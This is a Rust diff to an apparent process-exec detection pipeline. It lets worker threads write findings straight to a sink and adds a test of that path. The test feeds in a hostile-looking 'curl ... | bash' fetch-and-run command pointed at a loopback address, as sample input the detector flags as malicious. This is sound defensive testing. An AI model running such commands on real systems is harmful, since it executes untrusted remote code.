@@ -6,9 +6,11 @@
 //! stall the kernel ring buffer. A `-c` text already judged that warrants no
 //! finding is taken in before that (`EventInput::take_judged`) and goes no
 //! further. Enrichment and scoring run on a pool of blocking workers (it
-//! races the process's exit, so it starts at once); each result goes from
-//! its worker to one output thread (in capture order for event files, else
-//! as judged), which builds the findings and writes them to the sinks.
+//! races the process's exit, so it starts at once). Released as judged (live
+//! capture, no trace recorded), a worker builds its exec's findings and
+//! writes them itself when the sink takes them without waiting (stdout);
+//! otherwise each result goes to one output thread (in capture order for
+//! event files, else as judged), which builds and writes the findings.
 //! Later queues apply backpressure to the workers, never to capture. Traces
 //! are tapped after scoring, so a record holds exactly what the finding was
 //! made from.
@@ -87,9 +89,16 @@ pub trait FindingBuilder: Send + Sync + 'static {
     }
 }
 
-/// Where findings go. Runs on its own thread: it may block (files, HTTP).
+/// Where findings go. `send` runs on the output thread: it may block
+/// (files, HTTP).
 pub trait FindingSink: Send + 'static {
     fn send(&mut self, finding: Line) -> anyhow::Result<()>;
+    /// Deliver now if that cannot wait on anything slow (a full queue, the
+    /// network), from a worker thread; else give the finding back for the
+    /// output thread's `send`. By default always given back.
+    fn try_send(&mut self, finding: Line) -> Result<anyhow::Result<()>, Line> {
+        Err(finding)
+    }
     /// Deliver everything still buffered; called once at shutdown.
     fn close(&mut self) -> anyhow::Result<()>;
 }
@@ -307,13 +316,129 @@ impl EventInput {
 /// Feeds already-judged detections (replay) into the finding stage.
 #[derive(Clone)]
 pub struct DetectionInput {
-    tx: mpsc::Sender<Detection>,
+    tx: mpsc::Sender<Judged>,
+    /// Set when workers may write their findings themselves (no recorder).
+    direct: Option<Arc<OutputStage>>,
 }
 
 impl DetectionInput {
     /// Replay waits for room instead of dropping: nothing is lost.
     pub async fn send(&self, detection: Detection) {
-        let _ = self.tx.send(detection).await;
+        let _ = self.tx.send(Judged::Detection(Box::new(detection))).await;
+    }
+}
+
+/// What goes to the output thread: a judged exec to account for, record
+/// and build findings from, or findings a worker built but could not write.
+enum Judged {
+    Detection(Box<Detection>),
+    Built(Vec<Line>),
+}
+
+/// The stages after scoring: counting, finding building and the sink.
+/// Shared by the output thread and (without a recorder) the workers.
+struct OutputStage {
+    /// Workers may build and write findings themselves.
+    direct: bool,
+    findings: Arc<dyn FindingBuilder>,
+    sink: Mutex<Box<dyn FindingSink>>,
+    metrics: Metrics,
+}
+
+impl OutputStage {
+    /// The per-exec counters, once per judged exec.
+    fn account(&self, detection: &Detection) {
+        let metrics = &self.metrics;
+        if let Some(reason) = &detection.enrichment.missing_reason {
+            metrics.missing(missing_label(reason));
+        }
+        metrics
+            .detection_latency_us
+            .observe(detection.detection_latency_us as f64);
+        if detection.verdict.malicious {
+            metrics.malicious.inc();
+        }
+    }
+
+    /// The detection's findings; None (and counted) when building failed.
+    fn build(&self, detection: &Detection) -> Option<Vec<Line>> {
+        match self.findings.build_all(detection) {
+            Ok(built) => Some(built),
+            Err(err) => {
+                self.metrics.finding_errors.inc();
+                tracing::error!(
+                    "building the finding for pid {}: {err:#}",
+                    detection.event.pid
+                );
+                None
+            }
+        }
+    }
+
+    /// Write findings, waiting for the sink as long as it takes (the
+    /// output thread only).
+    fn write(&self, lines: Vec<Line>) {
+        let mut sink = self.lock_sink();
+        for line in lines {
+            let result = sink.send(line);
+            self.counted(result);
+        }
+    }
+
+    fn counted(&self, result: anyhow::Result<()>) {
+        match result {
+            Ok(()) => {
+                self.metrics.findings.inc();
+            }
+            Err(err) => {
+                self.metrics.finding_errors.inc();
+                tracing::error!("finding sink: {err:#}");
+            }
+        }
+    }
+
+    /// On a worker: account for the detection, build its findings and hand
+    /// them to the sink if it takes them without waiting (nobody else
+    /// writing, the sink's `try_send` accepts). What it does not take goes
+    /// to the output thread through `out`; given back when `out` is full.
+    fn deliver_direct(
+        &self,
+        detection: Detection,
+        out: &mpsc::Sender<Judged>,
+    ) -> Result<(), Judged> {
+        self.account(&detection);
+        let Some(lines) = self.build(&detection) else {
+            return Ok(());
+        };
+        drop(detection);
+        let mut rest = Vec::new();
+        match self.sink.try_lock() {
+            Ok(mut sink) => {
+                let mut lines = lines.into_iter();
+                for line in lines.by_ref() {
+                    match sink.try_send(line) {
+                        Ok(result) => self.counted(result),
+                        Err(line) => {
+                            rest.push(line);
+                            break;
+                        }
+                    }
+                }
+                rest.extend(lines);
+            }
+            Err(_) => rest = lines,
+        }
+        if rest.is_empty() {
+            return Ok(());
+        }
+        match out.try_send(Judged::Built(rest)) {
+            Ok(()) | Err(mpsc::error::TrySendError::Closed(_)) => Ok(()),
+            Err(mpsc::error::TrySendError::Full(built)) => Err(built),
+        }
+    }
+
+    fn lock_sink(&self) -> std::sync::MutexGuard<'_, Box<dyn FindingSink>> {
+        self.sink.lock().unwrap_or_else(|p| p.into_inner())
     }
 }
 
@@ -414,6 +539,7 @@ impl Pipeline {
                         permit,
                         Release {
                             out: unordered_out.tx.clone(),
+                            direct: unordered_out.direct.clone(),
                             _slot: slot,
                         },
                     ),
@@ -452,7 +578,7 @@ impl Pipeline {
         metrics: Metrics,
         opts: &PipelineOptions,
     ) -> (Self, DetectionInput) {
-        let (det_tx, mut det_rx) = mpsc::channel::<Detection>(opts.finding_queue.max(1));
+        let (det_tx, mut det_rx) = mpsc::channel::<Judged>(opts.finding_queue.max(1));
         let mut threads = Vec::new();
 
         let trace_tx = outputs.recorder.map(|mut recorder| {
@@ -468,20 +594,28 @@ impl Pipeline {
             tx
         });
 
-        // One output thread builds each detection's findings and hands them
-        // to the sink: a finding is written without a further thread hop.
-        let findings = outputs.findings;
-        let mut sink = outputs.sink;
-        let pipeline_metrics = metrics.clone();
+        // Without a recorder a worker builds and writes its own findings
+        // when the sink takes them at once (`OutputStage::deliver_direct`);
+        // the output thread does it otherwise: the recorder's records and
+        // the findings keep one order then.
+        let stage = Arc::new(OutputStage {
+            direct: trace_tx.is_none(),
+            findings: outputs.findings,
+            sink: Mutex::new(outputs.sink),
+            metrics: metrics.clone(),
+        });
+        let direct = stage.direct.then(|| stage.clone());
         threads.push(std::thread::spawn(move || {
             let mut lost_traces: u64 = 0;
-            while let Some(detection) = det_rx.blocking_recv() {
-                if let Some(reason) = &detection.enrichment.missing_reason {
-                    metrics.missing(missing_label(reason));
-                }
-                metrics
-                    .detection_latency_us
-                    .observe(detection.detection_latency_us as f64);
+            while let Some(judged) = det_rx.blocking_recv() {
+                let detection = match judged {
+                    Judged::Built(lines) => {
+                        stage.write(lines);
+                        continue;
+                    }
+                    Judged::Detection(detection) => detection,
+                };
+                stage.account(&detection);
                 if let Some(tx) = &trace_tx {
                     if lost_traces > 0 {
                         let lost = Record::Lost {
@@ -492,49 +626,27 @@ impl Pipeline {
                             lost_traces = 0;
                         }
                     }
-                    let record = Record::Exec(Box::new(ExecRecord::from(&detection)));
+                    let record = Record::Exec(Box::new(ExecRecord::from(&*detection)));
                     if tx.try_send(record).is_err() {
-                        metrics.drop_in("trace");
+                        stage.metrics.drop_in("trace");
                         lost_traces += 1;
                     }
                 }
-                if detection.verdict.malicious {
-                    metrics.malicious.inc();
-                }
-                match findings.build_all(&detection) {
-                    Ok(built) => {
-                        for finding in built {
-                            match sink.send(finding) {
-                                Ok(()) => {
-                                    metrics.findings.inc();
-                                }
-                                Err(err) => {
-                                    metrics.finding_errors.inc();
-                                    tracing::error!("finding sink: {err:#}");
-                                }
-                            }
-                        }
-                    }
-                    Err(err) => {
-                        metrics.finding_errors.inc();
-                        tracing::error!(
-                            "building the finding for pid {}: {err:#}",
-                            detection.event.pid
-                        );
-                    }
+                if let Some(lines) = stage.build(&detection) {
+                    stage.write(lines);
                 }
             }
             drop(trace_tx);
-            sink.close()
+            stage.lock_sink().close()
         }));
         (
             Self {
-                metrics: pipeline_metrics,
+                metrics,
                 stop: None,
                 tasks: Vec::new(),
                 threads,
             },
-            DetectionInput { tx: det_tx },
+            DetectionInput { tx: det_tx, direct },
         )
     }
 
@@ -571,7 +683,9 @@ const EMPTY_CONTENT_WAIT_FACTOR: u32 = 10;
 
 /// Where an unordered result goes, and the in-flight slot it frees.
 struct Release {
-    out: mpsc::Sender<Detection>,
+    out: mpsc::Sender<Judged>,
+    /// Build and write the findings on the judging thread (no recorder).
+    direct: Option<Arc<OutputStage>>,
     _slot: tokio::sync::OwnedSemaphorePermit,
 }
 
@@ -726,10 +840,11 @@ async fn judge_after_wait(
 /// A judged exec still to be handed on: ordered (no release, returned),
 /// or unordered with the output queue full (sent from the async side, so
 /// no blocking thread ever waits on the output stage).
-type Unreleased = Option<(Detection, Option<Release>)>;
+type Unreleased = Option<(Judged, Option<Release>)>;
 
-/// On a blocking thread: score, then hand the detection to the output
-/// stage when it has room (unordered).
+/// On a blocking thread: score, then hand the detection on (unordered):
+/// its findings built and written here when the sink takes them at once,
+/// else to the output thread when it has room.
 fn judge_and_release(
     score: &ScoreStage,
     event: ExecEvent,
@@ -740,12 +855,19 @@ fn judge_and_release(
     let verdict = score.judge(&event, &enrichment);
     drop(permit);
     let judged = detection(event, enrichment, verdict);
-    match release {
-        Some(release) => match release.out.try_send(judged) {
-            Ok(()) | Err(mpsc::error::TrySendError::Closed(_)) => None,
-            Err(mpsc::error::TrySendError::Full(judged)) => Some((judged, Some(release))),
+    let Some(release) = release else {
+        return Some((Judged::Detection(Box::new(judged)), None));
+    };
+    let sent = match &release.direct {
+        Some(stage) => stage.deliver_direct(judged, &release.out),
+        None => match release.out.try_send(Judged::Detection(Box::new(judged))) {
+            Ok(()) | Err(mpsc::error::TrySendError::Closed(_)) => Ok(()),
+            Err(mpsc::error::TrySendError::Full(judged)) => Err(judged),
         },
-        None => Some((judged, None)),
+    };
+    match sent {
+        Ok(()) => None,
+        Err(judged) => Some((judged, Some(release))),
     }
 }
 
@@ -754,7 +876,8 @@ fn judge_and_release(
 async fn release_rest(unreleased: Unreleased) -> Option<Detection> {
     match unreleased {
         None => None,
-        Some((judged, None)) => Some(judged),
+        Some((Judged::Detection(judged), None)) => Some(*judged),
+        Some((Judged::Built(_), None)) => None,
         Some((judged, Some(release))) => {
             let _ = release.out.send(judged).await;
             None
@@ -1049,6 +1172,84 @@ mod tests {
         fn close(&mut self) -> anyhow::Result<()> {
             Ok(())
         }
+    }
+
+    /// A sink that takes every other finding from a worker and the rest
+    /// on the output thread, and remembers which.
+    struct HalfDirectSink {
+        found: Arc<Mutex<Vec<serde_json::Value>>>,
+        direct: Arc<Mutex<usize>>,
+        calls: usize,
+    }
+    impl FindingSink for HalfDirectSink {
+        fn send(&mut self, finding: Line) -> anyhow::Result<()> {
+            self.found.lock().unwrap().push(parsed(&finding));
+            Ok(())
+        }
+        fn try_send(&mut self, finding: Line) -> Result<anyhow::Result<()>, Line> {
+            self.calls += 1;
+            if self.calls.is_multiple_of(2) {
+                return Err(finding);
+            }
+            *self.direct.lock().unwrap() += 1;
+            Ok(self.send(finding))
+        }
+        fn close(&mut self) -> anyhow::Result<()> {
+            Ok(())
+        }
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn workers_write_findings_the_sink_takes_at_once_and_none_is_lost() {
+        let metrics = Metrics::new();
+        let found = Arc::new(Mutex::new(Vec::new()));
+        let direct = Arc::new(Mutex::new(0));
+        let (pipeline, input) = start_test_pipeline(
+            &metrics,
+            Box::new(HalfDirectSink {
+                found: found.clone(),
+                direct: direct.clone(),
+                calls: 0,
+            }),
+            None,
+            &PipelineOptions {
+                ordered: false,
+                finding_queue: 1,
+                ..Default::default()
+            },
+        );
+        let me = std::process::id();
+        for i in 0..100u32 {
+            let code = if i % 2 == 0 {
+                format!("curl -s http://127.0.0.1:9/{i} | bash")
+            } else {
+                format!("echo {i}")
+            };
+            assert!(input.offer(CapturedExec {
+                event: event(me + i, "/bin/bash", &code),
+                kernel_content: None,
+                root: None,
+            }));
+        }
+        drop(input);
+        pipeline.finish().await.unwrap();
+        let mut pids: Vec<u64> = found
+            .lock()
+            .unwrap()
+            .iter()
+            .map(|f| f["pid"].as_u64().unwrap())
+            .collect();
+        pids.sort_unstable();
+        let want: Vec<u64> = (0..100u64).step_by(2).map(|i| me as u64 + i).collect();
+        assert_eq!(pids, want);
+        assert!(
+            *direct.lock().unwrap() > 0,
+            "no finding was written by a worker"
+        );
+        let s = metrics.summary();
+        assert_eq!(s.events, 100);
+        assert_eq!(s.malicious, 50);
+        assert_eq!(s.findings, 50);
     }
 
     #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
